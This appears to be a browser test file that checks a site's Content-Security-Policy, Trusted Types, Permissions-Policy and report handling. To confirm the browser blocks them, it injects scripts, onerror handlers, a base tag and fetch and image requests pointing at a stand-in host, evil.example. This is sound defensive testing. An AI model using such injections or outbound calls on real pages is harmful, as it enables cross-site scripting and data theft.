// The Content-Security-Policy as a browser enforces it. Every other browser test proves that it refuses nothing of
// the site itself: a refusal writes a console line, which fails the test.
import { POLICY_REPORTS } from '../../app/paths.ts'
import { ALLOWED_FEATURES } from '../../hosting/policy/features.ts'
import { expect, openPageWith, test, THOROUGH } from './fixtures.ts'
import { usesScript } from './provider.ts'

test('code and markup that somebody adds to a page with a form do not run, style or call out', async ({
  page,
  noise,
}) => {
  test.skip(!usesScript, "A page without a provider's script refuses even the assignment, as the next test shows.")
  noise.expect(/Content Security Policy/, /evil\.example/, /Failed to load resource: .*404/)
  await openPageWith(page, 'a form')
  const result = await page.evaluate(async () => {
    const script = document.createElement('script')
    const text = document.createElement('p')
    const base = document.createElement('base')
    const picture = new Image()
    const broken = new Promise((done) => picture.addEventListener('error', done))
    base.href = 'https://evil.example/'
    picture.src = '/no-picture'
    text.setAttribute('style', 'position: fixed')
    picture.setAttribute('onerror', 'window.injected = true')
    script.textContent = 'window.injected = true'
    document.body.append(script, text, base, picture)
    await broken
    const calledOut = await fetch('https://evil.example/').then(
      () => true,
      () => false,
    )
    const { position } = getComputedStyle(text)
    return { isInjected: 'injected' in window, calledOut, position, isBased: document.baseURI.includes('evil') }
  })
  expect(result).toEqual({ isInjected: false, calledOut: false, position: 'static', isBased: false })
})

// A form in a plain frame brings no code of the provider onto its page.
for (const kind of usesScript ? (['no form'] as const) : (['no form', 'a form'] as const)) {
  test(`on a page with ${kind} no text becomes markup or code, and no script comes from elsewhere`, async ({
    page,
    noise,
  }) => {
    noise.expect(/Trusted ?(?:HTML|Script|Type)/)
    await openPageWith(page, kind)
    const accepted = await page.evaluate(() => {
      const script = () => document.createElement('script')
      const policies = (
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
      ).trustedTypes
      const attempts: Record<string, () => unknown> = {
        'markup by innerHTML': () => (document.createElement('div').innerHTML = '<img src="/x" onerror="x()">'),
        'markup by insertAdjacentHTML': () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
        'markup by DOMParser': () => new DOMParser().parseFromString('<p>x</p>', 'text/html'),
        'markup in a frame': () => (document.createElement('iframe').srcdoc = '<p>x</p>'),
        'a handler': () => document.body.setAttribute('onclick', 'x()'),
        'inline code': () => (script().textContent = 'x()'),
        'code from elsewhere': () => (script().src = 'https://evil.example/x.js'),
        'another policy': () => policies.createPolicy('mine', {}),
        'a second default policy': () => policies.createPolicy('default', {}),
        'a file of the site': () => (script().src = '/assets/x.js'),
      }
      return Object.keys(attempts).filter((attempt) => {
        try {
          attempts[attempt]?.()
          return true
        } catch {
          return false
        }
      })
    })
    expect(accepted).toEqual(['a file of the site'])
  })
}

test(
  'every feature that the browser knows is off, except those that the policy allows',
  THOROUGH,
  async ({ page, request }) => {
    await page.goto('about:blank')
    const known = await page.evaluate(() =>
      (document as unknown as { featurePolicy: { features: () => string[] } }).featurePolicy.features(),
    )
    const header = (await request.get('/')).headers()['permissions-policy'] ?? ''
    const off = header.split(', ').map((each) => each.replace('=()', ''))
    const isOff = (name: string) => off.includes(name) || ALLOWED_FEATURES.test(name)
    expect(
      known.filter((name) => !isOff(name)),
      'Features that the policy forgets',
    ).toEqual([])
    const unknown = off.filter((name) => !known.includes(name))
    expect(unknown, 'Browsers log a warning for each').toEqual([])
  },
)

test('what the policy refuses on a page with a form is reported once, without its query', async ({ page, noise }) => {
  noise.expect(/Content Security Policy/, /evil\.example/)
  const bodies: unknown[] = []
  page.on('request', (each) => {
    if (new URL(each.url()).pathname === POLICY_REPORTS) bodies.push(each.postDataJSON())
  })
  const { path } = await openPageWith(page, 'a form')
  await expect(page.locator('[data-state]')).toHaveAttribute('data-state', /opened|ready/)
  await page.evaluate(() => {
    for (const query of ['?name=Jane', '?name=Jane', '?other=1'])
      new Image().src = `https://evil.example/p.gif${query}`
  })
  await expect.poll(() => bodies).toEqual([{ page: path, directive: 'img-src', blocked: 'https://evil.example' }])
})

test('too many cookies of a provider lock nobody out: one reload, and the page is there', async ({
  page,
  context,
  noise,
  baseURL,
}) => {
  noise.expect(/status of 431/, /^console info: Clear-Site-Data header on /)
  // As a script stores them. On a page with a form, its own next request would already delete them.
  const cookies = Array.from({ length: 20 }, (_, index) => ({
    name: `c${index}`,
    value: 'x'.repeat(4_000),
    url: baseURL ?? '',
    expires: Math.round(Date.now() / 1000) + 31_536_000,
  }))
  await context.addCookies(cookies)
  expect((await page.goto('/'))?.status()).toBe(431)
  await expect(page.getByText('Please reload the page')).toBeVisible()
  expect((await page.reload())?.status()).toBe(200)
  expect(await context.cookies()).toEqual([])
})
